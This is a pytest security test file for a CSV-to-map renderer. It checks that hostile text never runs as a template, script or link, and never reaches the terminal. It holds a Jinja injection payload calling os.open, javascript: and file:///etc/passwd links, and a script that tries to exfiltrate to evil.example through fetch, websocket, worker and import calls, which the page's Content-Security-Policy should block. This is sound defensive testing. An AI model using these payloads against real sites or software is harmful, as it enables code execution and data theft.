"""Hostile CSV text never runs, neither in the reader's machine nor in the reader's browser.

The payload corpus lives in ``tests/payloads`` (see its ``build.py``).
"""

from __future__ import annotations

import csv
import json
import re
import sys
from collections import Counter
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from geo.dataset import remove_control_characters
from geo.render.html import WEB_LINK
from tests.conftest import movement_records, page_data_of


def test_template_syntax_in_csv_text_never_runs_as_a_template(
    write_csv: Callable[..., Path], invoke: Callable[..., Any], tmp_path: Path
) -> None:
    marker = tmp_path / "template-ran"
    payload = (
        "{{ self.__init__.__globals__.__builtins__.__import__('os')"
        f".open('{marker.as_posix()}', 65) }} {{{{7*7}}}} {{% if 1 %}}jinja ran{{% endif %}}"
    )
    movements = write_csv(f'''
        actor,unit,origin,destination,troops,notes
        United States,"{payload}",Germany,Poland,1000,"{payload}"
    ''')
    page = tmp_path / "map.html"

    result = invoke("render", str(movements), "-o", str(page))

    assert result.exit_code == 0, result.output
    assert not marker.exists()
    movement = movement_records(page_data_of(page))[0]
    assert movement["notes"] == payload
    assert movement["unit"] == payload


# --- the payload corpus in Chromium -------------------------------------------------------

PAYLOADS = Path(__file__).resolve().parent / "payloads"
CORPUS = sorted(PAYLOADS.glob("hostile-[0-9]*.csv"))
PLACES = PAYLOADS / "hostile-places.csv"
SENTINEL = "tmPwned"  # every payload that could run sets window.tmPwned (or opens a dialog)

# Record what the Content-Security-Policy blocked: an injected <img src=https://...> never
# reaches the network (so the request log stays empty) but it still means markup got in.
RECORD_VIOLATIONS = """
window.__tmViolations = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__tmViolations.push(e.violatedDirective + " " + e.blockedURI);
});
"""

# Open every popup (by a click on each drawn shape, then through Leaflet for every layer that
# has one), open every tooltip, hover everything; then report what the reader can see.
OPEN_EVERYTHING = """
() => {
  function attribute(selector, name) {
    var element = document.querySelector(selector);
    return element && element.getAttribute(name);
  }
  var map = Object.values(window).find(function (v) { return v instanceof L.Map; });
  var popups = [], tooltips = [], links = [];
  function readPopup() {
    // The open popup itself: a closed one lingers in the page while it fades out.
    var node = map._popup && map._popup.isOpen() &&
      map._popup.getElement().querySelector(".leaflet-popup-content");
    if (!node) return;
    var facts = {};
    node.querySelectorAll("dt").forEach(function (dt) {
      facts[dt.textContent] = dt.nextElementSibling.textContent;
    });
    popups.push({
      text: node.textContent,
      head: node.querySelector(".tm-popup-actor").textContent,
      route: node.querySelector(".tm-popup-route").textContent,
      facts: facts,
    });
    node.querySelectorAll("a").forEach(function (a) {
      links.push({ href: a.getAttribute("href"), rel: a.rel, target: a.target });
    });
  }
  document.querySelectorAll(".tm-flow, .tm-head, .tm-station").forEach(function (shape) {
    var box = shape.getBoundingClientRect();
    var at = { bubbles: true, clientX: box.x + box.width / 2, clientY: box.y + box.height / 2 };
    shape.dispatchEvent(new MouseEvent("mouseover", at));
    shape.dispatchEvent(new MouseEvent("click", at));
    readPopup();
    map.closePopup();
  });
  var layers = [];
  map.eachLayer(function (layer) { layers.push(layer); });
  layers.forEach(function (layer) {
    if (layer.getPopup && layer.getPopup()) {
      layer.openPopup();
      readPopup();
      layer.closePopup();
    }
    if (layer.getTooltip && layer.getTooltip()) layer.openTooltip();
  });
  document.querySelectorAll(".leaflet-tooltip").forEach(function (t) {
    tooltips.push(t.textContent);
    t.querySelectorAll(".tm-station-place").forEach(function (p) { tooltips.push(p.textContent); });
  });
  var control = document.querySelector(".leaflet-control-layers");
  control.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
  var onAttributes = [];
  document.querySelectorAll("*").forEach(function (e) {
    Array.prototype.forEach.call(e.attributes, function (a) {
      if (/^on/i.test(a.name)) onAttributes.push(e.tagName + " " + a.name);
    });
  });
  var misplaced = [];
  document.querySelectorAll("script, style, meta, title, base, link").forEach(function (e) {
    var parent = e.parentElement;  // the document's head or body, or a fragment's own box
    if (parent.tagName !== "HEAD" && parent.tagName !== "BODY" &&
        !parent.classList.contains("tm-embed")) {
      misplaced.push(e.tagName + " in " + parent.tagName);
    }
  });
  var tags = {};
  document.body.querySelectorAll("*").forEach(function (e) { tags[e.tagName.toLowerCase()] = 1; });
  document.querySelectorAll("a[href]:not([data-tm-get])").forEach(function (a) {
    links.push({ href: a.getAttribute("href"), rel: a.rel, target: a.target });
  });
  // "Get the data": files the page makes itself (Blob URLs), downloaded, never opened.
  var files = document.querySelectorAll("a[data-tm-get]");
  var downloads = Array.prototype.map.call(files, function (a) {
    return { href: a.getAttribute("href"), download: a.getAttribute("download") };
  });
  return {
    sentinel: [typeof window.tmPwned, typeof window.parent.tmPwned],
    violations: window.__tmViolations,
    popups: popups,
    tooltips: tooltips,
    links: links,
    downloads: downloads,
    legend: Array.prototype.map.call(document.querySelectorAll(".tm-legend li"),
                                     function (e) { return e.textContent; }),
    control: Array.prototype.map.call(control.querySelectorAll("label"),
                                      function (e) { return e.textContent; }),
    summary: document.querySelector(".tm-sr-only").textContent,
    heading: document.querySelector(".tm-title h1").textContent,
    subtitle: document.querySelector(".tm-subtitle").textContent,
    footer: document.querySelector(".tm-footer").textContent,
    title: document.title,
    description: attribute('meta[name="description"]', "content"),
    ogTitle: attribute('meta[property="og:title"]', "content"),
    embedLabel: attribute(".tm-embed", "aria-label"),
    onAttributes: onAttributes,
    misplaced: misplaced,
    tags: Object.keys(tags).sort(),
  };
}
"""

# Every element the page itself puts in <body>; anything else was injected.
PAGE_TAGS = {
    "a",
    "aside",
    "button",
    "canvas",
    "circle",
    "dd",
    "div",
    "dl",
    "dt",
    "footer",
    "g",
    "h1",
    "h2",
    "header",
    "input",
    "label",
    "li",
    "line",
    "main",
    "noscript",
    "output",
    "p",
    "path",
    "script",
    "section",
    "span",
    "style",
    "svg",
    "symbol",
    "ul",
    "use",  # style: fragments
}


def shown(text: str) -> str:
    """Text as a page shows it, for comparison: the reader drops control characters; runs of
    white space (HTML turns CR and CRLF into LF) are compared as one space."""
    return " ".join(remove_control_characters(text)[0].split())


def corpus_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def corpus_texts(path: Path) -> list[str]:
    return [row["actor"] for row in corpus_rows(path)]


def open_recording(browser: Any, path: Path) -> Any:
    """``browser.open`` with the CSP violation recorder installed before the page's scripts."""
    return browser.open(path, init_script=RECORD_VIOLATIONS)


def test_the_corpus_puts_payloads_in_every_text_column() -> None:
    rows = [row for path in CORPUS for row in corpus_rows(path)]
    texts = {item["text"].strip() for item in json.loads((PAYLOADS / "strings.json").read_text())}
    assert len(rows) == len(texts) >= 100
    for column in ("id", "actor", "unit", "notes"):
        assert all(any(text in row[column] for row in rows) for text in texts), column
    in_places = {row["origin"] for row in rows} | {row["destination"] for row in rows}
    assert len(in_places & texts) >= 90
    assert all(row["source"].startswith("https://example.org/") for row in rows)
    assert any(row["origin"] == "" for row in rows)  # stationed forces: their own tooltips


def test_the_corpus_files_are_up_to_date() -> None:
    from payloads.build import build

    for name, text in build().items():
        assert (PAYLOADS / name).read_bytes().decode("utf-8") == text, (
            f"{name} is out of date: run python tests/payloads/build.py"
        )


# Every file as a whole page; some also as a fragment to paste into a page, which has no
# Content-Security-Policy of its own to fall back on.
CASES = [(corpus, "page") for corpus in CORPUS] + [(corpus, "fragment") for corpus in CORPUS[::3]]


@pytest.mark.browser
@pytest.mark.parametrize(("corpus", "kind"), CASES, ids=[f"{c.stem}-{k}" for c, k in CASES])
def test_no_payload_runs_loads_or_changes_in_the_page(
    corpus: Path, kind: str, invoke: Callable[..., Any], browser: Any, tmp_path: Path
) -> None:
    rows = corpus_rows(corpus)
    texts = [remove_control_characters(row["actor"])[0] for row in rows]
    title, subtitle = " ".join(texts), " ".join(reversed(texts))
    page_path = tmp_path / f"{corpus.stem} {kind}.html"
    result = invoke(
        "render",
        str(corpus),
        "--places",
        str(PLACES),
        "--title",
        title,
        "--subtitle",
        subtitle,
        "-o",
        str(page_path),
        *(["--fragment"] if kind == "fragment" else []),
    )
    assert result.exit_code == 0, result.output
    assert_static_page_is_inert(page_path.read_text(encoding="utf-8"), whole=kind == "page")

    page = open_recording(browser, page_path)
    seen = page.evaluate(OPEN_EVERYTHING)
    page.close()

    assert seen["sentinel"] == ["undefined", "undefined"]
    assert browser.dialogs == []
    assert browser.requests == []
    assert seen["violations"] == []
    assert browser.errors == []
    assert seen["onAttributes"] == []
    assert seen["misplaced"] == []
    assert set(seen["tags"]) <= PAGE_TAGS, set(seen["tags"]) - PAGE_TAGS
    outside = [link for link in seen["links"] if not link["href"].startswith("#")]  # Leaflet's
    assert outside
    for file in seen["downloads"]:
        assert file["href"].startswith(("blob:", "#")) and file["download"], file
    for link in outside:
        assert link["href"].startswith(("https://", "http://")), link
        assert link["target"] == "_blank" and set(link["rel"].split()) >= {
            "noopener",
            "noreferrer",
        }, link
    # Every payload reached the reader as the very text the CSV holds: escaped once, not
    # dropped, not decoded twice, not run through a template.
    assert shown(seen["heading"]) == shown(title)
    if kind == "page":
        assert shown(seen["title"]) == shown(seen["ogTitle"]) == shown(title)
    else:
        assert shown(seen["embedLabel"]) == shown(title)
    assert shown(seen["subtitle"]) == shown(subtitle)
    popups = [
        (shown(p["head"]), shown(p["route"]), shown(p["facts"].get("Notes", "")))
        for p in seen["popups"]
    ]
    tooltips = {shown(text) for text in seen["tooltips"]}
    legend, control = {shown(t) for t in seen["legend"]}, {shown(t) for t in seen["control"]}
    sources = {link["href"] for link in outside}
    payload_places = {row["name"] for row in corpus_rows(PLACES)}
    for row in rows:
        actor, unit, notes = shown(row["actor"]), shown(row["unit"]), shown(row["notes"])
        origin, destination = shown(row["origin"]), shown(row["destination"])
        route = f"{origin} → {destination}" if origin else f"Stationed at {destination}"
        assert (f"{actor} — {unit}", route, notes) in popups, row["id"]
        assert actor in legend and actor in control, row["id"]
        for text in (actor, destination):
            assert text in shown(seen["summary"])
            assert kind != "page" or text in shown(seen["description"])
        for place in (row["origin"], row["destination"]):
            if place in payload_places:  # countries are named on the map, not by a tooltip
                assert shown(place) in tooltips, place
        assert remove_control_characters(row["source"])[0] in sources


def assert_static_page_is_inert(html: str, whole: bool = True) -> None:
    """The page (or fragment) as written, read by an HTML parser: only troopmap's markup."""
    tags = _StartTags()
    tags.feed(html)
    assert tags.counts["title"] == (1 if whole else 0)
    # Scripts and styles sit in <head> or <body> themselves (or in a fragment's own box): one
    # inside a panel was injected.
    assert tags.misplaced == []
    assert not tags.counts.keys() & {
        "iframe",
        "object",
        "embed",
        "base",
        "form",
        "img",
        "math",
        "link",
        "video",
        "details",
        "input",
    }
    assert tags.event_handlers == []
    if whole:  # the policy must come before anything it governs
        assert tags.order.index("meta csp") < min(tags.order.index(t) for t in ("script", "style"))


VOID_ELEMENTS = frozenset(
    {
        "area",
        "base",
        "br",
        "col",
        "embed",
        "hr",
        "img",
        "input",
        "link",
        "meta",
        "source",
        "track",
        "wbr",
    }
)


class _StartTags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.counts: Counter[str] = Counter()
        self.event_handlers: list[str] = []
        self.order: list[str] = []
        self.misplaced: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.counts[tag] += 1
        self.event_handlers += [f"{tag} {name}" for name, _ in attrs if name.startswith("on")]
        csp = ("http-equiv", "Content-Security-Policy") in attrs
        self.order.append("meta csp" if csp else tag)
        document = set(self.open) <= {"html", "head", "body"}
        if tag in ("script", "style", "title", "meta") and not (document or self.open == ["div"]):
            self.misplaced.append(f"{tag} in {'/'.join(self.open)}")
        if tag not in VOID_ELEMENTS:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self.open:
            while self.open.pop() != tag:
                pass


# --- links ----------------------------------------------------------------------------------

NOT_WEB_LINKS = [
    "javascript:window.tmPwned=1",
    "JaVaScRiPt:window.tmPwned=2",
    " javascript:window.tmPwned=3",
    "data:text/html,<script>window.tmPwned=4</script>",
    "vbscript:msgbox(1)",
    "//evil.example/protocol-relative",
    "file:///etc/passwd",
    "https:/one-slash.example",
]


@pytest.mark.parametrize("link", NOT_WEB_LINKS)
def test_a_source_that_is_not_a_web_link_is_refused_by_name(
    link: str, write_csv: Callable[..., Path], invoke: Callable[..., Any]
) -> None:
    movements = write_csv(f"""
        actor,origin,destination,troops,source
        United States,Germany,Poland,1000,"{link}"
    """)

    result = invoke("check", str(movements))

    assert result.exit_code == 1
    assert f'column "source": "{link.strip()}" is not a web ' in result.stderr
    assert "Traceback" not in result.output


@pytest.mark.browser
def test_links_other_than_http_never_reach_the_page_even_from_the_library(
    browser: Any, tmp_path: Path
) -> None:
    # A program using troopmap as a library can build movements without the CSV reader's
    # checks; the page must still refuse to link anything but http(s).
    from geo.dataset import Dataset, Destination, Movement
    from geo.layers import build_layers
    from geo.render import write

    movements = [
        Movement(
            id=f"m{i}",
            row=i + 2,
            actor="Hostile library",
            troops=100 + i,
            origin="Germany",
            destinations=(Destination(place),),
            source=link,
        )
        for i, (link, place) in enumerate(
            zip(
                NOT_WEB_LINKS,
                [
                    "Poland",
                    "Romania",
                    "Latvia",
                    "Estonia",
                    "Lithuania",
                    "Bulgaria",
                    "Hungary",
                    "Slovakia",
                ],
                strict=True,
            )
        )
    ]
    page_path = write(build_layers(Dataset("library", movements)), tmp_path / "map.html")

    html = page_path.read_text(encoding="utf-8")
    assert "javascript:" not in html.split("<body>", 1)[1].split("<script>", 1)[0].lower()
    page = open_recording(browser, page_path)
    seen = page.evaluate(OPEN_EVERYTHING)
    page.close()

    assert len(seen["popups"]) >= len(NOT_WEB_LINKS)
    assert [link for link in seen["links"] if not link["href"].startswith("#")] == [
        {
            "href": "https://www.naturalearthdata.com/",
            "rel": "noopener noreferrer",
            "target": "_blank",
        }
    ]
    assert seen["sentinel"] == ["undefined", "undefined"]
    assert browser.requests == [] and browser.dialogs == []


# --- the Content-Security-Policy ----------------------------------------------------------

# What a page could try, were a script to get in: every way of reaching the network.
REACH_OUT = """
async () => {
  var tries = {
    fetch: function () { return fetch("https://evil.example/fetch"); },
    xhr: function () {
      var x = new XMLHttpRequest(); x.open("GET", "https://evil.example/xhr"); x.send();
    },
    beacon: function () { navigator.sendBeacon("https://evil.example/beacon", "x"); },
    websocket: function () { new WebSocket("wss://evil.example/socket"); },
    eventsource: function () { new EventSource("https://evil.example/events"); },
    image: function () { new Image().src = "https://evil.example/pixel.png"; },
    tile: function () { new Image().src = "https://tile.openstreetmap.org/0/0/0.png"; },
    script: function () {
      var s = document.createElement("script"); s.src = "https://evil.example/x.js";
      document.head.appendChild(s);
    },
    style: function () {
      var l = document.createElement("link"); l.rel = "stylesheet";
      l.href = "https://evil.example/x.css"; document.head.appendChild(l);
    },
    font: function () {
      var f = new FontFace("Evil", "url(https://evil.example/font.woff2)"); f.load();
      document.fonts.add(f);
    },
    frame: function () {
      var i = document.createElement("iframe"); i.src = "https://evil.example/frame";
      document.body.appendChild(i);
    },
    media: function () {
      var a = document.createElement("audio"); a.src = "https://evil.example/a.mp3";
      document.body.appendChild(a); a.load();
    },
    worker: function () {
      new Worker(URL.createObjectURL(new Blob(["fetch('https://evil.example/w')"])));
    },
    import: function () { return import("https://evil.example/module.js"); },
  };
  for (var name in tries) {
    try { await Promise.resolve(tries[name]()).catch(function () {}); } catch (e) {}
  }
  await new Promise(function (done) { setTimeout(done, 500); });
  return window.__tmViolations;
}
"""


def csp_of(html: str) -> dict[str, list[str]]:
    found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
    assert found, "the page has no Content-Security-Policy"
    return {d.split()[0]: d.split()[1:] for d in found.group(1).split(";") if d.strip()}


def test_the_policy_names_no_network_origin_without_tiles(
    invoke: Callable[..., Any], tmp_path: Path
) -> None:
    result = invoke("render", "-o", str(tmp_path / "map.html"))
    assert result.exit_code == 0, result.output

    policy = csp_of((tmp_path / "map.html").read_text(encoding="utf-8"))

    assert policy["default-src"] == ["'none'"]
    for directive in ("base-uri", "form-action"):
        assert policy[directive] == ["'none'"], directive
    assert policy["connect-src"] == ["'self'"]  # narrowed to its robots.txt by a second policy
    assert policy["img-src"] == ["data:"] and policy["font-src"] == ["data:"]
    assert policy["script-src"] == ["'unsafe-inline'"]
    assert policy["style-src"] == ["'unsafe-inline'"]
    assert not {"frame-src", "child-src", "media-src", "object-src", "worker-src"} & set(policy)


@pytest.mark.browser
def test_the_policy_blocks_every_request_a_script_could_make(
    invoke: Callable[..., Any], browser: Any, tmp_path: Path
) -> None:
    result = invoke("render", "-o", str(tmp_path / "map.html"))
    assert result.exit_code == 0, result.output
    page = open_recording(browser, tmp_path / "map.html")

    violations = page.evaluate(REACH_OUT)
    page.close()

    assert {v.split()[0] for v in violations} == {
        "connect-src",
        "img-src",
        "script-src-elem",
        "style-src-elem",
        "font-src",
        "frame-src",
        "media-src",
        "worker-src",
    }, violations
    assert "img-src https://tile.openstreetmap.org/0/0/0.png" in violations
    assert browser.requests == []


@pytest.mark.browser
def test_with_tiles_only_the_tile_host_is_reached(
    invoke: Callable[..., Any], browser: Any, tmp_path: Path
) -> None:
    result = invoke("render", "--tiles", "OpenStreetMap", "-o", str(tmp_path / "map.html"))
    assert result.exit_code == 0, result.output
    policy = csp_of((tmp_path / "map.html").read_text(encoding="utf-8"))
    assert policy["img-src"] == ["data:", "https://tile.openstreetmap.org"]
    assert policy["connect-src"] == ["'self'"]

    page = open_recording(browser, tmp_path / "map.html")
    violations = page.evaluate(REACH_OUT)
    page.close()

    assert browser.requests, "the tiles were asked for, so the page should fetch them"
    assert all(url.startswith("https://tile.openstreetmap.org/") for url in browser.requests)
    assert "img-src https://evil.example/pixel.png" in violations
    assert not any("tile.openstreetmap.org" in v for v in violations), violations


def test_unknown_tiles_are_a_usage_error(invoke: Callable[..., Any], tmp_path: Path) -> None:
    result = invoke("render", "--tiles", "nonsense", "-o", str(tmp_path / "map.html"))

    assert result.exit_code == 2
    assert '--tiles: "nonsense" is not a tile set troopmap knows.' in result.stderr
    assert not (tmp_path / "map.html").exists()


# --- the terminal ---------------------------------------------------------------------------


def test_control_characters_in_a_csv_never_reach_the_terminal(
    write_csv: Callable[..., Path], invoke: Callable[..., Any]
) -> None:
    movements = write_csv(
        "actor,origin,destination,troops,date,status\n"
        "US\x1b]0;pwned\x07,Germany,Poland,1000,2022-02-02\x1b[2J,\u202eordered\n"
    )

    result = invoke("check", str(movements))

    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\u202e" not in result.output and "\\u202e" in result.stderr
    assert '"2022-02-02[2J" is not a date' in result.stderr


def test_control_characters_are_removed_with_a_warning(
    write_csv: Callable[..., Path], invoke: Callable[..., Any]
) -> None:
    movements = write_csv("actor,origin,destination,troops\nUS\x1b]0;pwned\x07,Germany,Poland,1\n")

    result = invoke("check", str(movements))

    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output
    assert "2 control characters (invisible, or left by a wrong encoding) removed." in (
        result.stderr
    )


@pytest.mark.skipif(sys.platform == "win32", reason="file names with control characters")
def test_a_file_name_with_control_characters_is_printed_escaped(
    write_csv: Callable[..., Path], invoke: Callable[..., Any]
) -> None:
    movements = write_csv("actor,destination,troops\nUS,Poland,lots\n", name="x\x1b[2J.csv")

    result = invoke("check", str(movements))

    assert result.exit_code == 1
    assert "\x1b" not in result.output
    assert 'x\\x1b[2J.csv, row 2, column "troops"' in result.stderr


@pytest.mark.skipif(sys.platform == "win32", reason="file names with control characters")
def test_check_names_a_file_with_control_characters_escaped(
    write_csv: Callable[..., Path], invoke: Callable[..., Any]
) -> None:
    movements = write_csv(
        "actor,origin,destination,troops\nUS,Germany,Poland,1000\n", name="ok\x1b[2J.csv"
    )

    result = invoke("check", str(movements))

    assert result.exit_code == 0
    assert "\x1b" not in result.output
    assert "ok\\x1b[2J.csv: no problems found" in result.stdout


# --- the other outputs ----------------------------------------------------------------------


@pytest.mark.parametrize("corpus", CORPUS[:10:4], ids=[p.stem for p in CORPUS[:10:4]])
def test_svg_and_geojson_hold_hostile_text_as_text(
    corpus: Path, invoke: Callable[..., Any], tmp_path: Path
) -> None:
    # An SVG opened in a browser runs its scripts; GIS programs show GeoJSON properties as is.
    rows = corpus_rows(corpus)
    title = "\x07" + " ".join(row["actor"] for row in rows)
    svg, geojson = tmp_path / "map.svg", tmp_path / "map.geojson"

    result = invoke(
        "render",
        str(corpus),
        "--places",
        str(PLACES),
        "--title",
        title,
        "-o",
        str(svg),
        "-o",
        str(geojson),
    )

    assert result.exit_code == 0, result.output
    tree = ElementTree.parse(svg)  # well-formed: no control character got in
    for element in tree.iter():
        tag = element.tag.rsplit("}", 1)[-1]
        assert tag not in ("script", "foreignObject", "iframe", "image"), tag
        for name, value in element.attrib.items():
            assert not name.rsplit("}", 1)[-1].lower().startswith("on"), name
            if name.endswith("href"):  # the sources' links, or the drawing's own references
                assert value.startswith("#") or (tag == "a" and WEB_LINK.match(value)), value
    assert shown(remove_control_characters(title)[0]) in shown(" ".join(tree.getroot().itertext()))
    features = json.loads(geojson.read_text(encoding="utf-8"))["features"]
    exported = {(f["properties"].get("actor"), f["properties"].get("notes")) for f in features}
    for row in rows:
        actor = remove_control_characters(row["actor"])[0].strip()
        assert (actor, remove_control_characters(row["notes"])[0].strip()) in exported


REACH_HOME = """
async (port) => {
  const ask = (url) => fetch(url).then(r => 'answered ' + r.status, () => 'blocked');
  return {
    robots: await ask('/robots.txt'),
    page: await ask('/map.html'),
    other: await ask('/secret.txt'),
    otherSite: await ask('http://localhost:' + port + '/robots.txt'),
  };
}
"""


@pytest.mark.browser
def test_a_published_page_may_reach_only_its_own_sites_robots_txt(
    invoke: Callable[..., Any], chromium: Any, tmp_path: Path
) -> None:
    """Search engines' checks (Lighthouse's SEO audit) read the site's robots.txt from inside
    the page; nothing else of this site or any other is reachable."""
    import functools
    import http.server
    import threading

    result = invoke("render", "-o", str(tmp_path / "map.html"))
    assert result.exit_code == 0, result.output
    (tmp_path / "robots.txt").write_text("User-agent: *\nAllow: /\n", encoding="utf-8")
    (tmp_path / "secret.txt").write_text("not for scripts", encoding="utf-8")
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path))
    handler.log_message = lambda *args: None  # type: ignore[attr-defined]
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    page = chromium.new_page()
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    try:
        page.goto(f"http://127.0.0.1:{port}/map.html", wait_until="load")
        page.wait_for_selector("[data-tm-drawn]", state="attached", timeout=20_000)
        drawn = list(requests)
        answers = page.evaluate(REACH_HOME, port)
    finally:
        page.close()
        server.shutdown()
    assert drawn == [f"http://127.0.0.1:{port}/map.html"]  # the page itself asks nothing
    assert answers == {
        "robots": "answered 200",
        "page": "blocked",
        "other": "blocked",
        "otherSite": "blocked",
    }
